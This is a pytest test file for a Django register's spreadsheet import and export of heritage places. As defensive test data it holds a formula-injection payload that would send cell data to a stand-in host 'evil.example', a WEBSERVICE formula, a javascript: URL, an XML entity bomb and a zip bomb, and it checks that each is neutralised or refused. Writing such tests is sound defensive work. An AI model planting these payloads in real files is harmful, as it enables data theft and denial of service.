"""The register as a table and back: what goes out, what comes in, what is never written."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from inducult.common.history import Actor
from inducult.common.languages import CODES
from inducult.common.models import Act
from inducult.places.actions import Trail, change_record
from inducult.places.actions.exchanging import table_of
from inducult.places.exchange import sheets
from inducult.places.exchange.columns import FIXED, every_column
from inducult.places.exchange.looking import Look, look_over
from inducult.places.exchange.sheets import Formula, NotATable, Table, armed, disarmed
from inducult.places.models import Place, Publication, Sheet
from inducult.places.records import Record, empty_record, record_of, records_of
from tests.cast import Cast

BY = Actor.command("test")
BACKEND = "allauth.account.auth_backends.AuthenticationBackend"
PAGE = "/en/register/exchange/"

Write = Callable[[list[str], list[list[Any]]], bytes]


def as_csv(header: list[str], rows: list[list[Any]]) -> bytes:
    return sheets.csv_of(header, rows, comma=False)


def as_european_csv(header: list[str], rows: list[list[Any]]) -> bytes:
    return sheets.csv_of(header, rows, comma=True)


def as_xlsx(header: list[str], rows: list[list[Any]]) -> bytes:
    return sheets.xlsx_of(header, rows, fixed=FIXED, explained=("Columns", [["a", "b", "c"]]))


WRITERS: tuple[Write, ...] = (as_csv, as_european_csv, as_xlsx)


def client_of(cast: Cast, part: str) -> Client:
    client = Client()
    client.force_login(cast[part], backend=BACKEND)
    return client


def everything() -> list[Record]:
    return list(records_of(Place.objects.all()))


def exported() -> tuple[list[str], list[list[Any]]]:
    out = table_of(Place.objects.order_by("slug"), CODES)
    return out.header, out.rows


def changed(slug: str, /, **cells: Any) -> tuple[list[str], list[list[Any]]]:
    """The table with other cells in the row of the place; `visit__x` is no name of a column."""
    header, rows = exported()
    for row in rows:
        if row[header.index("slug")] == slug:
            for name, cell in cells.items():
                row[header.index(name.replace("__", "."))] = cell
    return header, rows


def look(cast: Cast, table: tuple[list[str], list[list[Any]]], part: str = "keeper") -> Look:
    return look_over(sheets.table_in(as_xlsx(*table)), cast[part])


def horch() -> Place:
    return Place.objects.get(slug="august-horch-museum")


def send(client: Client, content: bytes, name: str = "table.xlsx") -> Any:
    return client.post(PAGE, {"table": SimpleUploadedFile(name, content)})


# --- laws -----------------------------------------------------------------------------------------
@given(st.text())
def test_what_is_disarmed_is_armed_again_as_it_was(text: str) -> None:
    assert armed(disarmed(text)) == text


@given(st.text(alphabet="=+-@'0123456789.,\t AE\r\n|", max_size=8))
def test_no_text_leaves_as_a_formula_or_a_number(text: str) -> None:
    told = disarmed(text)
    assert not told.lstrip().startswith(("=", "+", "-", "@"))
    assert not told.strip().isdigit()
    assert armed(told) == text


@pytest.mark.parametrize("write", WRITERS)
def test_a_table_of_the_real_places_that_nobody_touched_wants_nothing(
    write: Write, real_records: list[Record]
) -> None:
    columns = every_column()
    rows = [[column.shown(record) for column in columns.values()] for record in real_records]
    back = sheets.table_in(write(list(columns), rows))
    assert back.header == list(columns)
    assert [
        (record["slug"], name, cell)
        for record, (_number, row) in zip(real_records, back.rows, strict=True)
        for (name, column), cell in zip(columns.items(), row, strict=True)
        if column.touched(record, cell)
    ] == []


TEXT = st.text(max_size=30) | st.sampled_from(
    [
        "=1+1",
        "08058",
        "_x0041_",
        "+49 375",
        "1.5.2026",
        "2024-05",
        "'s-Hertogenbosch",
        "TRUE",
        "\x0b",
    ]
)


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow])
@given(TEXT, TEXT, st.floats(-90, 90), st.none() | st.integers(0, 10_000))
def test_any_text_and_number_comes_back_as_it_went(
    one: str, other: str, lat: float, number: int | None
) -> None:
    record = poisoned(one, other, lat, number)
    columns = every_column()
    for write in WRITERS:
        row = [column.shown(record) for column in columns.values()]
        (_at, back), *_rest = sheets.table_in(write(list(columns), [row])).rows
        cells = zip(columns.values(), back, strict=True)
        assert [column.name for column, cell in cells if column.touched(record, cell)] == []


def poisoned(one: str, other: str, lat: float, number: int | None) -> Record:
    """A record with free words in it that nobody foresaw."""
    record = empty_record()
    note = {"origin": "person", "translation": None}
    point = {"lon": -lat, "lat": lat, "precision": "exact", "source": other, "licence": "CC0-1.0"}
    phase = {"state": "working", "start": "1868", "end": "", "as_type": "", "note": one}
    return {
        **record,
        "operator": one,
        "phone": other,
        "doubts": one + "\r\n" + other,
        "position": point,
        "phases": [phase, {**phase, "note": other}],
        "names": [{"language": "de", "kind": "official", "text": one, "origin": "person"}],
        "texts": [{**note, "field": "summary", "language": "pl", "text": other}],
        "address": {**record["address"], "postal_code": other, "country": "DE"},
        "visit": {**record["visit"], "duration_min": number, "price_note": one},
    }


# --- out ------------------------------------------------------------------------------------------
def test_only_what_somebody_may_see_goes_out(cast: Cast) -> None:
    Place.objects.filter(slug="abenteuer-erzberg").update(state="draft")
    for part, seen in (("keeper", 2), ("foreign_keeper", 3), ("member", 2), ("scientist", 3)):
        answer = client_of(cast, part).get(f"{PAGE}table/?format=csv")
        assert len(sheets.table_in(answer.content).rows) == seen, part


def test_the_filter_of_the_list_is_that_of_the_table(cast: Cast) -> None:
    answer = client_of(cast, "steward").get(f"{PAGE}table/?q=horch&languages=de")
    table = sheets.table_in(answer.content)
    assert [row[2] for _number, row in table.rows] == ["august-horch-museum"]
    assert [name for name in table.header if name.startswith("name.")] == ["name.de"]
    assert answer["Cache-Control"] == "private, no-store"
    assert answer["Content-Disposition"].startswith('attachment; filename="inducult-')


def test_a_formula_goes_out_as_a_text(cast: Cast) -> None:
    evil = '=HYPERLINK("https://evil.example?"&A1,"click")'
    change_record(horch(), {**record_of(horch()), "operator": evil}, Trail(BY))
    book = load_workbook(io.BytesIO(as_xlsx(*exported())))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    lines = as_csv(*exported()).decode("utf-8-sig")
    assert "'=HYPERLINK" in lines
    assert ',"=HYPERLINK' not in lines


def test_decimals_and_separators_are_those_of_the_language(cast: Cast) -> None:
    german = client_of(cast, "steward").get("/de/register/exchange/table/?format=csv").content
    english = client_of(cast, "steward").get("/en/register/exchange/table/?format=csv").content
    assert german.startswith("\ufeffid;state;slug;".encode())
    assert english.startswith("\ufeffid,state,slug,".encode())
    lat = f"{record_of(horch())['position']['lat']:.4f}"
    assert lat.replace(".", ",").encode() in german
    assert lat.encode() in english


# --- back -----------------------------------------------------------------------------------------
def test_a_table_that_nobody_touched_changes_nothing(cast: Cast) -> None:
    for write in WRITERS:
        seen = look_over(sheets.table_in(write(*exported())), cast["steward"])
        assert (seen.good, seen.faults, seen.stale, seen.same) == ([], [], [], 3)


CELLS: dict[str, tuple[Any, Any]] = {
    "operator": ("  City of Zwickau ", "City of Zwickau"),
    "endangered": ("yes", True),
    "ownership": ("", "unknown"),
    "types": ("MIN.COAL, VIS.MTRA", ["MIN.COAL", "VIS.MTRA"]),
    "areas": ("T1\nT3", ["T1", "T3"]),
    "website": ("", ""),
    "phone": (4937527, "4937527"),
}


@pytest.mark.parametrize("name", CELLS)
def test_a_cell_becomes_a_value(name: str, cast: Cast) -> None:
    cell, value = CELLS[name]
    change_record(horch(), {**record_of(horch()), "website": "https://example.org"}, Trail(BY))
    change_record(horch(), {**record_of(horch()), "ownership": "public"}, Trail(BY))
    (row,) = look(cast, changed("august-horch-museum", **{name: cell})).good
    assert [change.path for change in row.changes] == [(name,)]
    assert row.changes[0].after == value


VISIT: dict[str, tuple[Any, Any]] = {
    "visit_state": ("By Appointment", "by_appointment"),
    "opening_hours": ("Mo-Fr 10:00-16:00", "Mo-Fr 10:00-16:00"),
    "hours_valid_from": ("1. 5. 2026", "2026-05-01"),
    "duration_min": (95.0, 95),
    "languages": ("de; PL", ["de", "pl"]),
    "access.lift": ("limited", "limited"),
}


@pytest.mark.parametrize("name", VISIT)
def test_a_cell_of_the_visit_becomes_a_value(name: str, cast: Cast) -> None:
    cell, value = VISIT[name]
    (row,) = look(cast, changed("august-horch-museum", **{name.replace(".", "__"): cell})).good
    visit = row.after["visit"] if row.after else {}
    inner = {"visit_state": "state"}.get(name, name)
    got = visit["accessibility"]["lift"] if name == "access.lift" else visit[inner]
    assert (len(row.changes), got) == (1, value)


def test_a_position_may_have_a_comma_and_finds_its_region(cast: Cast) -> None:
    table = changed("august-horch-museum", position__lat="47,38", position__lon="15,09")
    (row,) = look(cast, table).good
    assert row.after is not None
    assert (row.after["position"]["lat"], row.after["position"]["lon"]) == (47.38, 15.09)
    assert "leoben" in [entry["code"] for entry in row.after["regions"]]


def test_a_day_of_looking_is_signed_with_the_role(cast: Cast) -> None:
    (row,) = look(cast, changed("august-horch-museum", checked_on="2026-11-01")).good
    assert row.after is not None
    assert row.after["visit"]["checked_by"] == "keeper"


def test_names_texts_and_phases_keep_what_the_table_does_not_hold(cast: Cast) -> None:
    before = record_of(horch())
    line = every_column()["phases"].shown(before)
    table = changed(
        "august-horch-museum",
        name__sl="Muzej Augusta Horcha",
        summary__sl="Avtomobili.",
        phases=f"{line}\nplanned | 2030 | | | A new hall",
    )
    (row,) = look(cast, table).good
    assert row.after is not None
    new = {"language": "sl", "kind": "exonym", "text": "Muzej Augusta Horcha", "origin": "person"}
    assert row.after["names"] == [*before["names"], new]
    assert row.after["phases"][:-1] == before["phases"]
    assert row.after["phases"][-1]["note"] == "A new hall"
    assert [text for text in row.after["texts"] if text["language"] != "sl"] == before["texts"]


WRONG: dict[str, Any] = {
    "opening_hours": "whenever",
    "website": "javascript:alert(1)",
    "types": "NO.SUCH",
    "position.lat": "north",
    "position.lon": 512,
    "hours_valid_from": "05/01/2026",
    "duration_min": "-1",
    "checked_on": "recently",
    "country": "Germany",
    "ownership": "mine",
    "endangered": "maybe",
    "regions": "atlantis",
    "phases": "working | 1990 | 1980",
    "operator": "x" * 201,
    "slug": "another-address",
    "languages": "de; de",
}


@pytest.mark.parametrize("name", WRONG)
def test_a_wrong_cell_is_named_by_row_column_and_reason(name: str, cast: Cast) -> None:
    seen = look(cast, changed("august-horch-museum", **{name.replace(".", "__"): WRONG[name]}))
    _header, rows = exported()
    at = [row[2] for row in rows].index("august-horch-museum") + 2
    assert seen.good == []
    assert [(fault.row, fault.column) for fault in seen.faults] == [(at, name)]
    assert seen.faults[0].reason


def test_formulas_of_a_file_are_never_taken(cast: Cast) -> None:
    book = load_workbook(io.BytesIO(as_xlsx(*exported())))
    sheet = book["places"]
    at = [cell.value for cell in sheet[1]].index("operator") + 1
    sheet.cell(2, at).value = '=WEBSERVICE("https://evil.example")'
    file = io.BytesIO()
    book.save(file)
    seen = look_over(sheets.table_in(file.getvalue()), cast["steward"])
    assert [(fault.row, fault.column) for fault in seen.faults] == [(2, "operator")]
    assert "formula" in seen.faults[0].reason


def test_rows_that_name_no_place_of_hers_say_only_that(cast: Cast) -> None:
    Place.objects.filter(slug="genk-ford-genk").update(state="draft")
    header, rows = changed("abenteuer-erzberg", operator="Mine")
    hidden = next(row for row in rows if row[2] == "genk-ford-genk")
    rows += [["", *hidden[1:]], ["nosuch0000", *hidden[1:]], rows[0]]
    faults = {f.row: f.reason for f in look(cast, (header, rows)).faults}
    never = "There is no such place in the register."
    places = {row[2]: at for at, row in enumerate(rows[:3], 2)}
    assert places["abenteuer-erzberg"] == 2
    assert faults[places["genk-ford-genk"]] == never == faults[6]
    assert "new place" in faults[5]
    assert faults[7] == "stands in two rows"


def test_who_does_not_keep_a_place_changes_nothing(cast: Cast) -> None:
    seen = look(cast, changed("abenteuer-erzberg", operator="Mine"))
    assert [fault.column for fault in seen.faults] == ["id"]
    assert seen.good == []


def test_what_changed_since_is_named_and_never_overwritten(cast: Cast) -> None:
    table = changed("august-horch-museum", operator="Table", protection="Monument")
    change_record(horch(), {**record_of(horch()), "operator": "Register"}, Trail(BY))
    seen = look(cast, table)
    assert seen.good == []
    assert [(r.number, [c.mine.name for c in r.clashes]) for r in seen.stale] == [
        (seen.stale[0].number, ["operator"])
    ]


def test_what_changed_since_elsewhere_in_the_place_is_joined(cast: Cast) -> None:
    table = changed("august-horch-museum", protection="Monument")
    change_record(horch(), {**record_of(horch()), "operator": "Register"}, Trail(BY))
    (row,) = look(cast, table).good
    assert row.after is not None
    assert (row.after["operator"], row.after["protection"]) == ("Register", "Monument")
    assert [change.name for change in row.changes] == ["protection"]


@pytest.mark.parametrize("state", ["", "x", "-1", "99999999999999999999", 1.5])
def test_without_the_state_of_the_register_a_row_is_refused(state: Any, cast: Cast) -> None:
    seen = look(cast, changed("august-horch-museum", operator="X", state=state))
    assert (seen.good, [fault.column for fault in seen.faults]) == ([], ["state"])


def test_columns_may_be_missing_moved_or_strange(cast: Cast) -> None:
    _header, rows = exported()
    table = (["Notes", "OPERATOR ", "state", "id"], [["?", "New", row[1], row[0]] for row in rows])
    seen = look(cast, table, "steward")
    assert (seen.strangers, len(seen.good), seen.faults) == (["notes"], 3, [])


# --- files that are none --------------------------------------------------------------------------
def workbook_with(told: str) -> bytes:
    """A workbook whose first sheet is something else."""
    file = io.BytesIO()
    good = zipfile.ZipFile(io.BytesIO(as_xlsx(["id", "state"], [["a", 1]])))
    with good, zipfile.ZipFile(file, "w") as archive:
        for name in good.namelist():
            archive.writestr(name, told if "sheet1" in name else good.read(name))
    return file.getvalue()


BOMB = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><worksheet>&b;</worksheet>'


def packed_bomb() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(7):
            archive.writestr(f"xl/{number}.xml", bytes(10 * 1024 * 1024))
    return file.getvalue()


WHOLE = as_xlsx(["id", "state", "slug"], [["a", 1, "x"], ["b", 2.5, "=1"]])
FILES: dict[str, bytes] = {
    "a picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    "latin letters": "id;state\nä;1".encode("cp1250"),
    "nulls": b"id;state\n\0;1",
    "only a header": b"id;state",
    "nothing": b"\n",
    "no identifier": b"state;operator\n1;X",
    "twice": b"id;state;state\na;1;2",
    "a broken workbook": workbook_with("<worksheet><sheetData><row>"),
    "an entity bomb": workbook_with(BOMB),
    "a packed bomb": packed_bomb(),
    "not a workbook": b"PK\x03\x04" + bytes(100),
    "too many rows": b"id;state\n" + b"a;1\n" * (sheets.MOST_ROWS + 1),
    "too long a field": b"id;state\n" + b"a" * 200_000 + b";1",
}


@pytest.mark.parametrize("name", FILES)
def test_a_file_that_is_no_table_is_refused_in_words(name: str, cast: Cast) -> None:
    answer = send(client_of(cast, "keeper"), FILES[name])
    assert (answer.status_code, Sheet.objects.count()) == (422, 0)
    assert list(answer.context["form"].errors) == ["table"]


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_a_damaged_workbook_is_read_or_refused_and_never_breaks(data: st.DataObject) -> None:
    good = bytearray(WHOLE)
    for at in data.draw(st.lists(st.integers(0, len(good) - 1), min_size=1, max_size=8)):
        good[at] = data.draw(st.integers(0, 255))
    try:
        table = sheets.table_in(bytes(good))
    except NotATable:
        return
    assert isinstance(table, Table)


@given(st.binary(max_size=300))
def test_any_bytes_are_read_or_refused(content: bytes) -> None:
    try:
        table = sheets.table_in(content)
    except NotATable:
        return
    json.dumps([row for _number, row in table.rows if not isinstance(row[0], Formula)])


def test_a_number_beyond_numbers_is_a_fault_and_not_an_error(cast: Cast) -> None:
    book = Workbook()
    sheet = book.worksheets[0]
    _header, rows = exported()
    sheet.append(["id", "state", "position.lat", "duration_min"])
    sheet.append([rows[0][0], rows[0][1], 1e300, 10**30])
    file = io.BytesIO()
    book.save(file)
    client = client_of(cast, "steward")
    page = client.get(send(client, file.getvalue()).url)
    assert [fault.column for fault in page.context["look"].faults] == [
        *("position.lat", "duration_min")
    ]


# --- the pages ------------------------------------------------------------------------------------
def test_a_keeper_sees_before_she_writes_and_undoes_it_all(cast: Cast) -> None:
    client, before = client_of(cast, "keeper"), everything()
    sent = send(client, as_xlsx(*changed("august-horch-museum", operator="City", phone="+49 1")))
    page = client.get(sent.url)
    assert everything() == before
    assert "City" in page.content.decode()
    seal = page.context["look"].seal
    done = client.post(sent.url, {"carry_out": "", "seal": seal, "publish_too": "on"})
    assert (record_of(horch())["operator"], record_of(horch())["phone"]) == ("City", "+49 1")
    assert json.loads(Publication.objects.get(place=horch()).record)["operator"] == "City"
    assert {act.deed for act in Act.objects.filter(run=done.url.split("/")[-2])} == {"exchange"}
    assert client.get(sent.url).url == done.url
    client.post(done.url)
    assert everything() == before


def test_nothing_is_written_while_a_row_is_wrong_unless_the_good_rows_are_chosen(
    cast: Cast,
) -> None:
    client, before = client_of(cast, "steward"), everything()
    header, rows = changed("august-horch-museum", operator="City")
    rows[0 if rows[0][2] != "august-horch-museum" else 1][header.index("website")] = "nowhere"
    sent = send(client, as_european_csv(header, rows), "table.csv")
    seal = client.get(sent.url).context["look"].seal
    refused = client.post(sent.url, {"carry_out": "", "seal": seal})
    assert (refused.status_code, everything()) == (200, before)
    client.post(sent.url, {"carry_out": "", "seal": seal, "only_good": "on"})
    new = [record for record, old in zip(everything(), before, strict=True) if record != old]
    assert [(record["slug"], record["operator"]) for record in new] == [
        ("august-horch-museum", "City")
    ]


def test_what_changed_between_look_and_deed_is_looked_at_again(cast: Cast) -> None:
    client = client_of(cast, "keeper")
    sent = send(client, as_xlsx(*changed("august-horch-museum", operator="City")))
    seal = client.get(sent.url).context["look"].seal
    change_record(horch(), {**record_of(horch()), "operator": "Somebody"}, Trail(BY))
    again = client.post(sent.url, {"carry_out": "", "seal": seal})
    assert again.status_code == 200
    assert record_of(horch())["operator"] == "Somebody"
    assert "Somebody" in again.content.decode()


def test_a_table_is_its_senders_own_and_can_be_thrown_away(cast: Cast) -> None:
    client = client_of(cast, "keeper")
    sent = send(client, as_xlsx(*changed("august-horch-museum", operator="City")))
    assert client_of(cast, "steward").get(sent.url).status_code == 403
    assert "table.xlsx" in client.get(PAGE).content.decode()
    client.post(sent.url, {"throw_away": ""})
    assert (Sheet.objects.count(), client.get(sent.url).status_code) == (0, 403)


def test_pages_without_anything_say_so(cast: Cast) -> None:
    client = client_of(cast, "keeper")
    assert "The list finds no place." in client.get(f"{PAGE}?q=xyzzy").content.decode()
    sent = send(client, as_xlsx(*exported()))
    assert "The table changes nothing" in client.get(sent.url).content.decode()


def test_only_the_latest_tables_of_a_person_are_kept(cast: Cast) -> None:
    client, content = client_of(cast, "keeper"), as_csv(*exported())
    for _ in range(22):
        send(client, content, "a.csv")
    assert Sheet.objects.count() == 20
